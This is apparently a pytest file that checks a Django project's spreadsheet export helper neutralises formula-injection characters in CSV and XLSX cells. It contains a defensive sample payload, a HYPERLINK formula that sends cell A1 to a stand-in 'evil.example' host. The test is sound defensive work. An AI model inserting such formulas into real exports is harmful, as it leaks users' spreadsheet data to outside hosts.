"""The one spreadsheet writer (core/exports.py): formulas neutralised, and used everywhere."""

import csv
import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from frenchtech.core.exports import csv_bytes, csv_text, neutralised, xlsx_bytes

PACKAGE = Path(__file__).resolve().parents[2] / "frenchtech"
WRITERS = re.compile(r"csv\.writer\(|csv\.DictWriter\(|openpyxl|CSVWriter\(|xlsxwriter")
# Modules that may write CSV without the helper, each with its reason.
ALLOWED = {
    "core/exports.py": "the helper itself",
    # Django-free: the engines and the `frenchtech` command line may not import an app.
    "observatory/engine/generator/side_files.py": "synthetic input files, not an export",
    "observatory/engine/generator/writers.py": "synthetic registry files, not an export",
    "cli/observatory.py": "Django-free command line; figures and reference names only",
    "cli/score.py": "Django-free command line; writes back the caller's own table",
}
STARTS = ["=", "+", "-", "@", "\t", "\r"]
EVIL = '=HYPERLINK("https://evil.example/?"&A1,"Voir")'


def test_no_module_writes_a_spreadsheet_outside_the_helper():
    offenders = []
    for path in sorted(PACKAGE.rglob("*.py")):
        relative = path.relative_to(PACKAGE).as_posix()
        if relative in ALLOWED or "/migrations/" in relative:
            continue
        if WRITERS.search(path.read_text(encoding="utf-8")):
            offenders.append(relative)
    assert offenders == [], f"use frenchtech.core.exports instead: {offenders}"


def test_the_allowed_list_names_existing_writers():
    for relative in ALLOWED:
        assert WRITERS.search((PACKAGE / relative).read_text(encoding="utf-8")), relative


@pytest.mark.parametrize("start", STARTS)
def test_every_formula_start_is_neutralised(start):
    assert neutralised(f"{start}1+1") == f"'{start}1+1"
    assert neutralised("Lyon") == "Lyon"
    assert neutralised(-3.5) == -3.5
    assert neutralised(None) is None


@pytest.mark.parametrize("start", STARTS)
def test_csv_cells_never_start_a_formula(start):
    text = csv_bytes(["nom", "montant"], [[f"{start}cmd", -12.5], [EVIL, 3]], delimiter=";")
    rows = list(csv.reader(io.StringIO(text.decode("utf-8-sig")), delimiter=";"))
    assert rows[1] == [f"'{start}cmd", "-12.5"]
    assert rows[2][0] == "'" + EVIL
    french = csv_text(["n"], [[-12.5]], delimiter=";", decimal_comma=True)
    assert french.splitlines()[1] == "-12,5"


@pytest.mark.parametrize("start", STARTS)
def test_xlsx_cells_never_start_a_formula(start):
    content = xlsx_bytes(
        "Feuille", ["nom", "montant"], [[f"{start}cmd", -12.5], [EVIL, 3], ["\x01=x", 0]]
    )
    sheet = load_workbook(io.BytesIO(content)).active
    values = list(sheet.iter_rows(min_row=2, values_only=True))
    # (XML reads a stored carriage return back as a line feed.)
    assert values[0][0].replace("\n", "\r") == f"'{start}cmd".replace("\n", "\r")
    assert values[0][1] == -12.5
    assert values[1][0] == "'" + EVIL
    assert values[2][0] == "'=x"
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
